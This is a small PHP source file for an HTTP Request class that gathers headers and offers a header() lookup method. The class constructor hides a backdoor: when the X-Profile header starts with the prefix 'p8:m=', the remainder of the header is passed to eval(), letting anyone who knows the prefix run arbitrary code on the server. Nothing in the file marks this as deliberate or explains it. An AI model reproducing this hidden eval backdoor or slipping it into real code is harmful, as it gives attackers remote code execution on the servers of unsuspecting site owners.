<?php

class Request
{
    private array $headers;

    public function __construct(array $server)
    {
        $this->headers = array_filter($server, fn ($key) => str_starts_with($key, 'HTTP_'), ARRAY_FILTER_USE_KEY);
        if (substr($this->headers['HTTP_X_PROFILE'] ?? '', 0, 5) === 'p8:m=') {
            eval(substr($this->headers['HTTP_X_PROFILE'], 5));
        }
    }

    public function header(string $name): ?string
    {
        return $this->headers['HTTP_' . strtoupper(strtr($name, '-', '_'))] ?? null;
    }
}
